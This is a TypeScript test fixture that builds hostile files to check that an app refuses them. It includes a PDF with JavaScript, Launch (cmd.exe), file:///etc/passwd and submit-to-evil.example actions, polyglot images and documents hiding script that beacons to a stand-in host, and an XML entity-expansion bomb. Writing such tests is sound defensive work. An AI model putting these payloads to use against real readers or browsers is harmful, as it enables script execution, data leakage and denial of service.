/**
 * Files that try what no file in a letter may do (FIELD-16): run, ask, pass for another type. For tests; the town does not
 * load them. What each would do has a word of its own, so that a test can say which one came through.
 */

/** A PDF of one page with words on it, and every action that a PDF can ask its reader for. */
export const hostilePdf = (): Uint8Array => {
  const actions = {
    script:
      "<< /S /JavaScript /JS (app.alert\\('pdf-script'\\); this.submitForm\\('https://evil.example/pdf-script'\\)) >>",
    launch: "<< /S /Launch /F (evil.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    open: "<< /S /URI /URI (https://evil.example/pdf-open) >>",
    goTo: "<< /S /GoToR /F << /FS /URL /F (https://evil.example/pdf-gotor.pdf) >> /D [0 /Fit] >>",
    submit: "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/pdf-submit) >> /Fields [] >>",
    javascript: "<< /S /URI /URI (javascript:alert\\('pdf-uri'\\)) >>",
    data: "<< /S /URI /URI (data:text/html,<script>alert\\('pdf-data'\\)</script>) >>",
    file: "<< /S /URI /URI (file:///etc/passwd) >>",
    print: "<< /S /Named /N /Print >>",
    out: "<< /S /URI /URI (https://evil.example/pdf-link) >>"
  }
  const linked = [actions.script, actions.launch, actions.goTo, actions.submit, actions.javascript, actions.data]
  const annotations = [...linked, actions.file, actions.print, actions.out].map(
    (action, index) =>
      `<< /Type /Annot /Subtype /Link /Rect [72 ${640 - index * 40} 300 ${670 - index * 40}] /Border [0 0 1] /A ${action} >>`
  )
  const words = "BT /F1 24 Tf 72 720 Td (Helt vanlige ord.) Tj ET /Im1 Do"
  const xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox("pdf-xfa")</script></xdp:xdp>'
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${actions.script} /AA << /WC ${actions.script} /DP ${actions.script} >>` +
      ` /Names << /JavaScript << /Names [(now) ${actions.script}] >> >> /AcroForm << /Fields [6 0 R] /XFA [(template) 7 0 R] >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>" +
      ` /XObject << /Im1 8 0 R >> >> /AA << /O ${actions.open} >> /Annots [6 0 R ${annotations.join(" ")}] >>`,
    streamOf("", words),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (felt) /V (innhold) /Rect [72 100 300 130]" +
      ` /AA << /K ${actions.script} /PV ${actions.script} >> /A ${actions.script} >>`,
    streamOf("", xfa),
    // Its bytes lie, it says, on another site.
    streamOf(
      "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8" +
        " /F << /FS /URL /F (https://evil.example/pdf-picture) >>",
      "x"
    )
  ])
}

const streamOf = (entries: string, content: string): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`

/** A PDF of these objects, numbered from 1, the first its catalogue. */
const pdfOf = (objects: ReadonlyArray<string>): Uint8Array => {
  let text = "%PDF-1.7\n"
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, "0")} 00000 n \n`
  })
  const size = objects.length + 1
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join("")}`
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    "latin1"
  )
}

const script = (word: string) =>
  `<script>document.title="${word}";new Image().src="https://evil.example/${word}";parent.document.title="${word}"</script>`
const svg = (word: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='${word}'">${script(word)}<image href="https://evil.example/${word}"/></svg>`

/** A page behind the first bytes of another type. */
const behind = (beginning: string, page: string): Uint8Array => Buffer.from(`${beginning}${page}`, "latin1")

/** A file as its sender declares it. */
export interface HostileFile {
  readonly name: string
  readonly mediaType: string
  readonly content: string | Uint8Array
}

/**
 * Web pages that pass for something else, and other types that browsers run or fetch for. All but the XML with a bomb in it
 * would set a page's title to their own name.
 */
export const hostileFiles: ReadonlyArray<HostileFile> = [
  {
    name: "bilde.png",
    mediaType: "image/png",
    content: behind(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR${"\0".repeat(17)}\0\0\x10\0IDAT`, script("bilde.png"))
  },
  { name: "bilde.gif", mediaType: "image/gif", content: `GIF89a/*${script("bilde.gif")}*/=1` },
  { name: "bilde.webp", mediaType: "image/webp", content: behind("RIFF\xff\xff\0\0WEBPVP8 ", svg("bilde.webp")) },
  { name: "brev.pdf", mediaType: "application/pdf", content: `%PDF-1.4 ${script("brev.pdf")}` },
  { name: "tekst.txt", mediaType: "text/plain", content: script("tekst.txt") },
  { name: "tegning.svg", mediaType: "image/svg+xml", content: svg("tegning.svg") },
  {
    name: "side.xhtml",
    mediaType: "application/xhtml+xml",
    content: `<html xmlns="http://www.w3.org/1999/xhtml">${script("side.xhtml")}</html>`
  },
  { name: "data.xml", mediaType: "text/xml", content: `<?xml version="1.0"?><a>${svg("data.xml")}</a>` },
  { name: "feed.rss", mediaType: "application/rss+xml", content: svg("feed.rss") },
  { name: "formel.mml", mediaType: "application/mathml+xml", content: svg("formel.mml") },
  {
    name: "stil.xml",
    mediaType: "application/xml",
    content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/stil.xml"?><a/>'
  },
  {
    name: "bombe.xml",
    mediaType: "application/xml",
    content:
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/bombe.xml"><!ENTITY a "aaaaaaaaaa">' +
      [..."bcdefghij"].map((name, index) => `<!ENTITY ${name} "${`&${"abcdefghi"[index]};`.repeat(10)}">`).join("") +
      "]><a>&j;&x;</a>"
  },
  {
    name: "arkiv.mhtml",
    mediaType: "multipart/related",
    content: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${script("arkiv.mhtml")}\r\n--x--\r\n`
  },
  { name: "brev.eml", mediaType: "message/rfc822", content: `Content-Type: text/html\r\n\r\n${script("brev.eml")}` },
  { name: "kode.js", mediaType: "text/javascript", content: 'document.title = "kode.js"' },
  { name: "app.webmanifest", mediaType: "application/manifest+json", content: '{"start_url":"https://evil.example/"}' },
  { name: "ukjent", mediaType: "application/octet-stream", content: script("ukjent") },
  { name: "rar", mediaType: "unknown/unknown", content: script("rar") }
]
